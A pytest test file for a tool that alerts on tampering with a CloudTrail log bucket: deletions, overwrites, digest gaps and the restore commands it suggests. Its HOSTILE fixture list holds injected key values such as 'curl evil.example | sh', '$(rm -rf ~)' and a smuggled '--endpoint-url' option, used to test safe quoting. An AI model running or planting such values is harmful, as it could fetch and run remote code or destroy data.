"""trail_digest: whoever touches the trail is reported, at once and by the hour; a sound trail is silent."""

import shlex
from dataclasses import replace
from datetime import timedelta

import pytest
from botocore.exceptions import EndpointConnectionError
from freezegun import freeze_time

from chalicelib.errors import MalformedEvent, MayPass, NotConfigured
from chalicelib.events import ObjectEvent, Tick
from chalicelib.looking import Unseen
from chalicelib.matching import EventPattern
from chalicelib.remediation import Outcome, Severity
from chalicelib.remediations.trail_digest import (
    BUCKET as BUCKET_NAME,
)
from chalicelib.remediations.trail_digest import (
    DELETED_PATTERN,
    GRANTS,
    REMEDIATION,
    TRAIL_ARN_NAME,
    WRITTEN_PATTERN,
)
from chalicelib.remediations.trail_digest.alerts import WEEK
from chalicelib.remediations.trail_digest.audit import Audit, TrailFault
from chalicelib.remediations.trail_digest.objects import MOST_VERSIONS, History
from chalicelib.runtime.notify import message_of, subject_of
from chalicelib.template.policies import document
from chalicelib.trail.integrity.evidence import StoredObject
from chalicelib.trail.integrity.findings import IntegrityFinding, What
from tests.chalicelib.bash import words_of
from tests.chalicelib.remediations.cloudtrail_records import at, facts_of, only, settings
from tests.chalicelib.remediations.trail_on_s3 import ACCOUNT, ARN, BEGAN, BUCKET, HOME, NOW, World, denied
from tests.moto_alone import moto_alone

FOLDER = f"AWSLogs/{ACCOUNT}/CloudTrail/{HOME}/2026/03/02"
LOG = f"{FOLDER}/{ACCOUNT}_CloudTrail_{HOME}_20260302T0200Z_0123456789abcdef.json.gz"
DIGESTS = f"AWSLogs/{ACCOUNT}/CloudTrail-Digest/{HOME}/2026/03/02"
SETTINGS = settings(**{BUCKET_NAME: BUCKET, TRAIL_ARN_NAME: ARN})
WHEN = "2026-03-02T02:05:00Z"


def told_by_s3(what, key=LOG, *, requester=ACCOUNT, reason, version="v2", bucket=BUCKET, **detail):
    return {
        "version": "0",
        "id": "e-1",
        "source": "aws.s3",
        "detail-type": what,
        "account": ACCOUNT,
        "region": HOME,
        "time": WHEN,
        "resources": [f"arn:aws:s3:::{bucket}"],
        "detail": {
            "version": "0",
            "bucket": {"name": bucket},
            "object": {"key": key, "version-id": version, "sequencer": "00A1"},
            "request-id": "R",
            "requester": requester,
            "source-ip-address": "203.0.113.7",
            "reason": reason,
            **detail,
        },
    }


def deleted(key=LOG, *, kind="Delete Marker Created", reason="DeleteObject", **changes):
    return told_by_s3("Object Deleted", key, reason=reason, **{"deletion-type": kind}, **changes)


def written(key=LOG, *, reason="PutObject", **changes):
    return told_by_s3("Object Created", key, reason=reason, **changes)


def ticked():
    return {
        "version": "0",
        "id": "t-1",
        "detail-type": "Scheduled Event",
        "source": "aws.events",
        "account": ACCOUNT,
        "region": HOME,
        "time": NOW.isoformat().replace("+00:00", "Z"),
        "resources": [f"arn:aws:events:{HOME}:{ACCOUNT}:rule/hourly"],
        "detail": {},
    }


def history(*kinds, key=LOG):
    """Versions, newest first: `v2`, or `marker v2`."""
    return History(
        versions=tuple(
            StoredObject(
                bucket=BUCKET,
                key=key,
                modified_at=at("2026-03-02T02:00:00") - timedelta(minutes=number),
                version=kind.removeprefix("marker "),
                latest=number == 0,
                delete_marker=kind.startswith("marker "),
            )
            for number, kind in enumerate(kinds)
        )
    )


def parse(raw):
    return REMEDIATION.way_of(raw).parse(raw)


def decided(raw, facts):
    (event,) = parse(raw)
    return REMEDIATION.way_of(raw).decide(event, facts, NOW, SETTINGS)


def looked(aws, raw, given=SETTINGS):
    (event,) = parse(raw)
    return REMEDIATION.way_of(raw).look(aws, event, given)


# ---- an object was deleted ----------------------------------------------------------------------


def test_a_deletion_names_key_kind_requester_address_and_time():
    alert = only(decided(deleted(), history("marker v2", "v1")))

    facts = facts_of(alert)
    assert alert.title == "A CloudTrail log file was deleted: a delete marker hides it"
    assert facts["Object"] == f"s3://{BUCKET}/{LOG}"
    assert facts["How"] == "hidden by a delete marker"
    assert facts["By"] == f"account {ACCOUNT} (S3 names no person)"
    assert facts["From"] == "203.0.113.7"
    assert facts["When"] == "2026-03-02 02:05:00 UTC"
    assert facts["Versions left"] == "1, hidden by a delete marker"
    assert facts["Oldest of them"].startswith("v1 of 2026-03-02 01:59:00 UTC")
    assert "data events" in alert.advice


def test_a_hidden_object_comes_with_the_command_that_brings_it_back():
    facts = facts_of(only(decided(deleted(), history("marker v2", "v1"))))

    assert facts["Bring it back with"] == (
        f"aws s3api delete-object --bucket {BUCKET} --key {LOG} --version-id v2 --region {HOME}"
    )


def test_every_marker_above_the_newest_version_has_to_go():
    alert = only(decided(deleted(), history("marker v3", "marker v2", "v1", "marker v0")))

    commands = [fact for label, fact in alert.facts if label == "Bring it back with"]
    assert [shlex.split(command)[8] for command in commands] == ["v3", "v2"]


GONE_FOR_GOOD = "Permanently Deleted"
LOUDNESS = [
    pytest.param(
        deleted(), history("marker v2", "v1"), Severity.CRITICAL, "a delete marker hides", id="hidden"
    ),
    pytest.param(
        deleted(kind=GONE_FOR_GOOD), history(), Severity.CRITICAL, "no version is left", id="gone for good"
    ),
    pytest.param(
        deleted(kind=GONE_FOR_GOOD),
        history("marker v3", "v1"),
        Severity.CRITICAL,
        "A version of a CloudTrail log file was permanently deleted",
        id="a version gone, another hidden",
    ),
    pytest.param(
        deleted(kind=GONE_FOR_GOOD),
        history("v1"),
        Severity.HIGH,
        "another can be read",
        id="a version or marker gone, another readable: maybe our own command",
    ),
    pytest.param(
        deleted(kind=GONE_FOR_GOOD),
        History(could_not_read=Unseen(why="denied")),
        Severity.CRITICAL,
        "is unknown",
        id="gone, and could not look",
    ),
    pytest.param(
        deleted(f"{DIGESTS}/x.json.gz"),
        history("marker v2"),
        Severity.CRITICAL,
        "A CloudTrail digest",
        id="digest",
    ),
    pytest.param(
        deleted(f"p/AWSLogs/o-abcdefghij/{ACCOUNT}/CloudTrail-Insight/x"),
        history("marker v2"),
        Severity.CRITICAL,
        "A CloudTrail object",
        id="insight, prefix and organization",
    ),
    pytest.param(
        deleted(f"a\nb/AWSLogs/{ACCOUNT}/CloudTrail/x"),
        history("marker v2"),
        Severity.CRITICAL,
        "A CloudTrail log file",
        id="a prefix with a line break",
    ),
    pytest.param(
        deleted("notes.txt"),
        history("marker v2"),
        Severity.LOW,
        "object in the trail's bucket",
        id="not the trail's",
    ),
    pytest.param(
        deleted(f"AWSLogs/{ACCOUNT}/Config/x"), history("marker v2"), Severity.LOW, "object in", id="Config's"
    ),
    pytest.param(written(), history("v2", "v1"), Severity.HIGH, "was overwritten", id="overwritten"),
    pytest.param(
        written(),
        history("v2", "marker v1", "v0"),
        Severity.HIGH,
        "was overwritten",
        id="put in a deleted one's place",
    ),
    pytest.param(
        written(), history("v3", "v2"), Severity.CRITICAL, "was added", id="added, overwritten since"
    ),
    pytest.param(written(), history("v2"), Severity.CRITICAL, "was added, and not by CloudTrail", id="added"),
    pytest.param(
        written(version=""), history("null"), Severity.CRITICAL, "added or overwritten", id="no versioning"
    ),
    pytest.param(
        written(),
        History(could_not_read=Unseen(why="denied")),
        Severity.CRITICAL,
        "added or overwritten",
        id="could not look",
    ),
    pytest.param(
        written("notes.txt"), history("v2"), Severity.LOW, "object in", id="written beside the trail"
    ),
]


@pytest.mark.parametrize(("raw", "facts", "severity", "words"), LOUDNESS)
def test_loudness_follows_from_what_was_done_and_what_is_left(raw, facts, severity, words):
    alert = only(decided(raw, facts))

    assert alert.severity is severity
    assert words in alert.title


def test_what_is_gone_for_good_has_no_way_back_but_other_places_to_look():
    alert = only(decided(deleted(kind=GONE_FOR_GOOD), history()))

    assert "Bring it back with" not in facts_of(alert)
    assert facts_of(alert)["Versions left"] == "none"
    assert "event history" in alert.advice


def test_a_marker_can_be_taken_away_also_where_nobody_could_look():
    facts = facts_of(only(decided(deleted(), History(could_not_read=Unseen(why="ListObjectVersions: no")))))

    assert facts["Versions left"] == "could not be read: ListObjectVersions: no"
    assert "--version-id v2" in facts["Bring it back with"]


def test_a_version_that_is_gone_for_good_is_not_taken_for_a_marker():
    alert = only(decided(deleted(kind=GONE_FOR_GOOD), History(could_not_read=Unseen(why="denied"))))

    assert "Bring it back with" not in facts_of(alert)


def test_versions_that_are_not_listed_are_counted():
    facts = facts_of(only(decided(deleted(), replace(history("marker v2", "v1"), left_out=40))))

    assert facts["Versions left"] == "41, hidden by a delete marker"


def test_an_overwriting_comes_with_the_commands_that_compare():
    facts = facts_of(only(decided(written(), history("v2", "v1", "v0"))))

    assert facts["Get the original one"] == (
        f"aws s3api get-object original.json.gz --bucket {BUCKET} --key {LOG} --version-id v0 --region {HOME}"
    )
    assert "--version-id v2" in facts["Get the new one"]


def test_who_was_active_is_asked_around_the_time():
    facts = facts_of(only(decided(deleted(), history("marker v2"))))

    assert facts["Who was active"] == (
        "aws cloudtrail lookup-events --start-time 2026-03-02T01:35:00Z --end-time 2026-03-02T02:35:00Z "
        f"--region {HOME}"
    )


def test_a_service_that_writes_is_named_as_it_is():
    facts = facts_of(only(decided(written("x", requester="config.amazonaws.com"), history("v2"))))

    assert facts["By"] == "config.amazonaws.com"


def test_objects_of_the_trail_are_told_a_few_and_then_counted_and_others_once_a_day():
    own = only(decided(deleted(), history()))
    assert (own.quiet, own.flood.most) == (None, 5)

    quiets = [only(decided(written(key), history())).quiet for key in ("a", "b")]
    assert quiets[0] == quiets[1]
    assert quiets[0].seconds == 24 * 3600
    assert len(only(decided(written("a", requester="r" * 2000), history())).quiet.subject) < 1000


HOSTILE = [
    pytest.param(f"{FOLDER}/x; curl evil.example | sh", id="semicolon and pipe"),
    pytest.param(f"{FOLDER}/$(rm -rf ~)`id`", id="command substitution"),
    pytest.param(f"{FOLDER}/a'; id; '\" && id", id="quotes"),
    pytest.param("--endpoint-url=https://evil.example", id="looks like an option"),
    pytest.param(f"{FOLDER}/a\nBring it back with: id\n", id="line breaks"),
    pytest.param(f"{FOLDER}/\x1b[2J\u202e{'k' * 700}", id="escapes and many letters"),
]


@pytest.mark.parametrize("key", HOSTILE)
@pytest.mark.parametrize(
    ("event", "versions"),
    [(deleted, ("marker v2", "v1")), (written, ("v2", "v1"))],
    ids=["deleted", "written"],
)
def test_a_hostile_key_can_not_become_a_command_or_a_line(key, event, versions):
    alert = only(decided(event(key), history(*versions, key=key)))

    commands = [fact for _, fact in alert.facts if fact.startswith("aws s3api")]
    assert commands
    for command in commands:
        words = words_of(command)
        assert words[words.index("--bucket") + 2 :][0] in ("--key", f"--key={key}")
        assert key in words or f"--key={key}" in words
        assert not any(word.startswith("--endpoint-url") for word in words)
    lines = message_of(alert, "f", Outcome.TOLD).splitlines()
    assert not [line for line in lines if line.startswith("Bring it back with: id")]
    assert len(subject_of(alert)) < 100


def test_a_command_is_whole_or_left_out():
    key = f"{FOLDER}/{'k' * 950}"

    facts = facts_of(only(decided(deleted(key), history("marker v2", "v1", key=key))))

    assert facts["Bring it back with"] == "a command that is too long to show here"


# ---- the hour's look ----------------------------------------------------------------------------

FINDING = IntegrityFinding(
    what=What.LOG_MODIFIED,
    bucket=BUCKET,
    key=LOG,
    since=at("2026-03-02T01:00:00"),
    until=at("2026-03-02T02:00:00"),
    expected="SHA-256 aa",
    found="SHA-256 bb",
    sentence="the log file was modified",
)


def alerts(**audit):
    return decided(ticked(), Audit(**audit)).alerts


def test_a_sound_trail_needs_no_word():
    assert decided(ticked(), Audit(digests=4, logs=8)).empty


def test_a_finding_tells_what_where_when_and_the_evidence():
    (alert,) = alerts(findings=(FINDING,))

    facts = facts_of(alert)
    assert alert.severity is Severity.CRITICAL
    assert alert.title == "A CloudTrail log file was modified"
    assert facts["What"] == "the log file was modified"
    assert facts["Object"] == f"s3://{BUCKET}/{LOG}"
    assert facts["Between"] == "2026-03-02 01:00:00 UTC and 2026-03-02 02:00:00 UTC"
    assert (facts["Expected"], facts["Found"]) == ("SHA-256 aa", "SHA-256 bb")
    assert facts["Trail"] == ARN
    assert facts["Look with"] == (
        f"aws s3api list-object-versions --bucket {BUCKET} --prefix {LOG} --region {HOME}"
    )


KINDS = {
    Severity.HIGH: {What.LOG_OVERWRITTEN, What.DIGEST_OVERWRITTEN, What.DIGEST_MISSING},
    Severity.MEDIUM: {What.GAP, What.UNDIGESTED},
}
UNDECIDED = {What.LOG_UNREADABLE, What.DIGEST_UNREADABLE, What.KEYS_UNAVAILABLE}


@pytest.mark.parametrize("what", [what for what in What if what not in UNDECIDED])
def test_every_kind_of_finding_has_its_loudness_and_fits_a_subject(what):
    (alert,) = alerts(findings=(replace(FINDING, what=what),))

    expected = next((severity for severity, kinds in KINDS.items() if what in kinds), Severity.CRITICAL)
    assert alert.severity is expected
    assert not subject_of(alert).endswith("...")
    assert alert.advice


def test_a_digest_that_did_not_come_says_how_to_ask_whether_the_trail_is_on():
    (alert,) = alerts(findings=(replace(FINDING, what=What.DIGEST_MISSING),))

    assert facts_of(alert)["Look with"] == f"aws cloudtrail get-trail-status --name {ARN} --region {HOME}"


@pytest.mark.parametrize("what", [What.GAP, What.UNDIGESTED])
def test_a_gap_says_how_to_learn_who(what):
    (alert,) = alerts(findings=(replace(FINDING, what=what),))

    command = facts_of(alert)["Look with"]
    assert "AttributeKey=EventName,AttributeValue=StopLogging" in command
    assert "--start-time 2026-03-01T13:00:00Z --end-time 2026-03-02T14:00:00Z" in command


def test_the_same_finding_is_told_once_in_a_week_and_another_is_told():
    (first,), (second,) = alerts(findings=(FINDING,)), alerts(findings=(FINDING,))
    (other_kind,) = alerts(findings=(replace(FINDING, what=What.LOG_DELETED),))
    (other_key,) = alerts(findings=(replace(FINDING, key=f"{LOG}x"),))

    assert first.quiet == second.quiet
    assert first.quiet.seconds == WEEK
    assert len({alert.quiet.subject for alert in (first, other_kind, other_key)}) == 3


def test_a_finding_about_the_longest_key_still_fits_the_ledger():
    (alert,) = alerts(findings=(replace(FINDING, key="\ud800é" * 500),))

    assert len(alert.quiet.subject) < 100


def test_more_findings_than_are_told_are_summed_up_as_loud_as_the_loudest():
    told = alerts(findings=(FINDING,), left_out=((What.LOG_ADDED, 3), (What.GAP, 2)))

    rest = told[-1]
    assert rest.title == "5 more findings in the CloudTrail trail"
    assert rest.severity is Severity.CRITICAL
    assert ("3 x", "log file added") in rest.facts
    assert rest.quiet != alerts(left_out=((What.LOG_ADDED, 4), (What.GAP, 2)))[-1].quiet


def test_what_could_not_be_looked_at_is_told_and_never_silent():
    (alert,) = alerts(
        could_not_read=(Unseen(why="the keys: gone"), Unseen(why="a log file: gone")), more_not_read=3
    )

    assert alert.severity is Severity.MEDIUM
    assert alert.title.endswith("5 things could not be looked at")
    assert ("Could not", "the keys: gone") in alert.facts
    assert ("And", "3 more") in alert.facts


def test_one_thing_is_one_thing():
    (alert,) = alerts(could_not_read=(Unseen(why="the keys: denied", denied=True),))

    assert "1 thing could not" in alert.title
    assert alert.severity is Severity.HIGH  # somebody may have denied it
    assert "And" not in facts_of(alert)


def test_log_files_beyond_what_a_run_reads_are_told():
    (alert,) = alerts(unverified=40, logs=1040)

    assert alert.severity is Severity.LOW
    assert alert.title == "40 CloudTrail log files stayed unverified"


@pytest.mark.parametrize("fault", TrailFault)
def test_a_trail_that_is_off_or_gone_is_told_with_the_way_to_learn_who(fault):
    (alert,) = alerts(faults=((fault, "since then"),))

    expected = Severity.HIGH if fault is TrailFault.NOT_VALIDATING else Severity.CRITICAL
    assert alert.severity is expected
    assert facts_of(alert)["What"] == f"{fault}: since then"
    assert "aws cloudtrail lookup-events" in facts_of(alert)["Who did it"]


def test_a_trail_that_is_stopped_again_is_told_again():
    (first,) = alerts(faults=((TrailFault.STOPPED, "since 02:00"),))
    (again,) = alerts(faults=((TrailFault.STOPPED, "since 05:00"),))

    assert first.quiet != again.quiet


# ---- what wakes it ------------------------------------------------------------------------------


def resolved(pattern):
    """The pattern as it stands once CloudFormation has put the bucket's name in."""
    return EventPattern({**pattern, "detail": {**pattern["detail"], "bucket": {"name": [BUCKET]}}})


MATCHES = [
    pytest.param(DELETED_PATTERN, deleted(), True, id="deleted"),
    pytest.param(
        DELETED_PATTERN, deleted(reason="Lifecycle Expiration"), False, id="the bucket's own lifecycle"
    ),
    pytest.param(DELETED_PATTERN, deleted(bucket="another"), False, id="deleted in another bucket"),
    pytest.param(DELETED_PATTERN, written(), False, id="deletions only"),
    pytest.param(DELETED_PATTERN, {**deleted(), "source": "mine"}, False, id="not S3's word"),
    pytest.param(WRITTEN_PATTERN, written(), True, id="written"),
    pytest.param(WRITTEN_PATTERN, written(reason="CopyObject"), True, id="copied"),
    pytest.param(
        WRITTEN_PATTERN, written(requester="cloudtrail.amazonaws.com"), False, id="CloudTrail's own delivery"
    ),
    pytest.param(WRITTEN_PATTERN, written(bucket="another"), False, id="written to another bucket"),
    pytest.param(WRITTEN_PATTERN, deleted(), False, id="writings only"),
    pytest.param(WRITTEN_PATTERN, {**written(), "source": "mine"}, False, id="not S3's word either"),
]


@pytest.mark.parametrize(("pattern", "event", "fires"), MATCHES)
def test_the_rules_let_through_what_only_an_intruder_does(pattern, event, fires):
    assert resolved(pattern).matches(event) is fires


def test_an_object_and_a_tick_are_told_apart():
    assert isinstance(parse(deleted())[0], ObjectEvent)
    assert isinstance(parse(ticked())[0], Tick)


def test_a_second_delivery_is_the_same_event():
    assert parse(deleted())[0].key == parse({**deleted(), "id": "e-2"})[0].key
    assert parse(ticked())[0].key == parse({**ticked(), "id": "t-2"})[0].key


@pytest.mark.parametrize("raw", [{"source": "aws.s3"}, {"source": "aws.events"}, [], None, "x"])
def test_what_nobody_sends_is_kept_by_the_queue(raw):
    with pytest.raises(MalformedEvent):
        parse(raw)


# ---- looking ------------------------------------------------------------------------------------


@pytest.fixture
def world():
    with freeze_time(BEGAN) as time, moto_alone():
        yield World(time)


@pytest.mark.slow
def test_an_objects_history_is_read_newest_first_and_its_own_only(world):
    first = world.puts("logs/a")
    world.puts("logs/a2")
    marker = world.deletes("logs/a")

    found = looked(world, deleted("logs/a"))

    assert [one.version for one in found.versions] == [marker, first]
    assert [one.version for one in found.survivors] == [first]
    assert [one.version for one in found.markers] == [marker]


@pytest.mark.slow
def test_the_way_back_that_is_told_brings_the_object_back(world):
    world.puts("logs/a", b"content")
    world.deletes("logs/a")
    raw = deleted("logs/a")

    command = facts_of(only(decided(raw, looked(world, raw))))["Bring it back with"]
    words = shlex.split(command)
    world.s3.delete_object(Bucket=words[4], Key=words[6], VersionId=words[8])

    assert world.s3.get_object(Bucket=BUCKET, Key="logs/a")["Body"].read() == b"content"


@pytest.mark.slow
def test_a_long_history_keeps_its_newest_and_its_oldest(world):
    oldest = world.puts("logs/a")
    for _ in range(MOST_VERSIONS + 2):
        newest = world.puts("logs/a")

    found = looked(world, written("logs/a"))

    assert (found.versions[0].version, found.versions[-1].version) == (newest, oldest)
    assert (len(found.versions), found.left_out) == (MOST_VERSIONS, 3)


@pytest.mark.parametrize("key", HOSTILE[:-1])  # moto can't list the last: S3 encodes what XML can't hold
def test_an_object_of_any_name_is_found(world, key):
    world.puts(key)

    assert len(looked(world, written(key)).versions) == 1


def test_a_look_that_is_denied_keeps_the_reason_and_the_alert(world):
    world.s3.failing["list_object_versions"] = denied("ListObjectVersions")

    why = looked(world, deleted()).could_not_read

    assert "not authorized" in why.why
    assert why.denied


def test_a_look_that_may_yet_succeed_is_tried_again(world):
    world.s3.failing["list_object_versions"] = EndpointConnectionError(endpoint_url="https://s3")

    with pytest.raises(MayPass, match="Could not connect"):
        looked(world, deleted())


@pytest.mark.slow
def test_a_tick_looks_at_the_hours_before_it(world):
    world.delivers()
    world.deletes(world.logs[HOME][-1])

    plan = decided(ticked(), looked(world, ticked()))

    assert only(plan).title == "A CloudTrail log file was deleted"


@pytest.mark.parametrize("missing", [BUCKET_NAME, TRAIL_ARN_NAME])
def test_a_tick_needs_both_variables(missing):
    values = {name: value for name, value in SETTINGS.values.items() if name != missing}

    with pytest.raises(NotConfigured, match=missing):
        looked(None, ticked(), settings(**values))


def test_it_may_only_read_this_bucket_and_this_trail():
    assert not REMEDIATION.acts
    resources = {
        action: str(statement["Resource"])
        for statement in document(GRANTS)["Statement"]
        for action in statement["Action"]
    }
    assert "ExistingTrailBucket" in resources["s3:GetObject"]
    assert "ExistingTrailArn" in resources["cloudtrail:GetTrail"]
    assert resources["cloudtrail:ListPublicKeys"] == "*"
    assert set(REMEDIATION.settings) == {BUCKET_NAME, TRAIL_ARN_NAME}
